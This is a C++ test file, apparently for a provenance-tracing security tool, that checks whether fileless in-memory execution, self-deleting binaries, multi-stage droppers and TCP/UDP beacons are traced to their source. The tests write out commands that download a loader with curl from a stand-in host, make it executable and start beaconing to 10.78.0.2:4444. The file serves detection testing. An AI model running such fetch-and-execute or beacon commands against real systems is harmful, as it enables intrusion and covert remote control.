// SPDX-License-Identifier: GPL-3.0-or-later
// What makes it harder to say where a program came from.
#include "tests/trace_scenarios/scenes.h"
#include "tests/trace_scenarios/trace_scenario.h"

using namespace metsuke;
using namespace metsuke::test;
using testing::Contains;
using testing::HasSubstr;

// S4
TEST_P(TraceScenario, ProgramInMemory_isFileless) {
    far->takeStreams(kBeaconPort);
    place("home/loader", simulant());
    record();
    happen(std::string("setsid home/loader --memory tcp 10.78.0.2 4444 500") + kRun);
    const TraceView trace = traceOf(beacon());
    EXPECT_EQ(trace.node("subject").value("kind", ""), "image") << trace;
    EXPECT_THAT(trace.label("subject"), HasSubstr("memfd:update")) << trace;
    EXPECT_EQ(trace.digest("subject").size(), 64U) << trace;
    EXPECT_EQ(trace.entry(), "fileless") << trace;
    if (isEbpf()) {
        EXPECT_THAT(trace.blast("file"), Contains(path("home/loader"))) << trace;
    }
}

TEST_P(TraceScenario, ProgramInMemoryOfAFetchedLoader_isTracedToItsPeer) {
    far->serveFiles(kWebPort, {{"/loader", {simulant()}}}, onceSeen());
    far->takeStreams(kBeaconPort);
    record();
    happen(std::string("curl -s -o home/loader http://10.78.0.2:8080/loader\nchmod +x home/loader\n"
                       "setsid home/loader --memory tcp 10.78.0.2 4444 500")
        + kRun);
    const TraceView trace = traceOf(beacon());
    EXPECT_THAT(trace.label("subject"), HasSubstr("memfd:update")) << trace;
    if (isEbpf() || trace.entry() == "download") {
        expectEntry(trace, "download", "10.78.0.2:8080", {});
    } else {
        EXPECT_EQ(trace.entry(), "fileless")
            << "the loader ran for less than a millisecond: the end of what is known\n"
            << trace;
    }
}

// S5
TEST_P(TraceScenario, ProgramThatDeletedItself_isStillKnown) {
    far->serveFiles(kWebPort, {{"/gone", {simulant()}}}, onceSeen());
    far->takeStreams(kBeaconPort);
    record();
    happen(std::string("curl -s -o home/gone http://10.78.0.2:8080/gone\nchmod +x home/gone\nsetsid "
                       "home/gone --forget tcp 10.78.0.2 4444 500")
        + kRun);
    const TraceView trace = traceOf(beacon());
    EXPECT_FALSE(std::filesystem::exists(path("home/gone")));
    EXPECT_EQ(trace.label("subject"), path("home/gone")) << trace;
    EXPECT_TRUE(trace.node("subject").value("removed", false)) << trace;
    expectEntry(trace, "download", "10.78.0.2:8080", {"no_parent", "no_image"});
}

// S7
TEST_P(TraceScenario, ThreeStagesRenamedLinkedAndUnpacked_areFollowedToTheFirst) {
    victim->write("pack/second.sh", kSecondStage);
    ASSERT_EQ(quietly({"chmod", "+x", path("pack/second.sh")}), 0);
    ASSERT_EQ(quietly({"tar", "-cf", path("pack.tar"), "-C", path("pack"), "second.sh"}), 0);
    far->serveFiles(kSecondWebPort, {{"/pack.tar", {readFile(path("pack.tar"))}}}, onceSeen());
    far->serveFiles(kWebPort, {{"/third", {simulant()}}}, onceSeen());
    far->takeStreams(kBeaconPort);
    place("first.sh", kFirstStage);
    record();
    happen("./first.sh");
    const TraceView trace = traceOf(beacon());
    EXPECT_EQ(trace.label("subject"), path("home/.svc")) << trace;
    const auto names = trace.names();
    for (const char* name : {"home/t.part", "home/t", "home/.svc"}) {
        EXPECT_THAT(names, Contains(path(name))) << trace;
    }
    EXPECT_THAT(trace.blast("file"), Contains(path("home/.second"))) << trace;
    EXPECT_THAT(trace.blast("connection"), Contains("10.78.0.2:8080")) << trace;
    expectEntry(trace, "download", "10.78.0.2:8081", {"no_image", "no_parent", "file_unseen", "unknown_source"},
        "10.78.0.2:8080");
}

// S9
TEST_P(TraceScenario, BeaconByDatagrams_hasAnOwner) {
    far->takeDatagrams(kBeaconPort);
    place("home/tool", simulant());
    record();
    happen(std::string("setsid home/tool udp 10.78.0.2 4444 200") + kRun);
    const TraceView trace = traceOf(beacon(kBeaconPort, "udp"));
    EXPECT_EQ(trace.label("owner"), path("home/tool")) << trace;
    EXPECT_EQ(trace.label("subject"), path("home/tool")) << trace;
}

TEST_P(TraceScenario, BeaconByDatagramsWithoutAConnection_hasAnOwnerOrSaysThatItHasNone) {
    far->takeDatagrams(kBeaconPort);
    place("home/tool", simulant());
    record();
    happen(std::string("setsid home/tool unconnected 10.78.0.2 4444 200") + kRun);
    const Question question = beacon(kBeaconPort, "udp");
    // What is looked at once a second has been by then.
    ASSERT_TRUE(
        eventually([&] { return far->visits(kBeaconPort).front().last - question.at > 3 * kSecond; }));
    endRecording();
    const TraceView trace = ask(question);
    if (trace.label("owner").empty() || trace.gaps().contains("owner_by_peer")) {
        EXPECT_THAT(trace.gaps(), testing::AnyOf(Contains("no_owner"), Contains("owner_by_peer"))) << trace;
    } else {
        EXPECT_EQ(trace.label("owner"), path("home/tool")) << trace;
    }
}

TEST_P(TraceScenario, BeaconInALongConnection_hasTheOwnerOfItsBeginning) {
    far->takeStreams(kBeaconPort);
    place("home/tool", simulant());
    record();
    happen(std::string("setsid home/tool tcp 10.78.0.2 4444 500") + kRun);
    Question question = beacon();
    const Timestamp begun = question.at;
    // Later than any difference of clocks explains.
    ASSERT_TRUE(eventually([&] { return far->visits(kBeaconPort).front().last - begun > 6 * kSecond; }));
    question.at = far->visits(kBeaconPort).front().last;
    const TraceView trace = traceOf(question);
    EXPECT_EQ(trace.label("owner"), path("home/tool")) << trace;
    EXPECT_THAT(trace.gaps(), testing::Not(Contains("owner_by_peer"))) << trace;
}
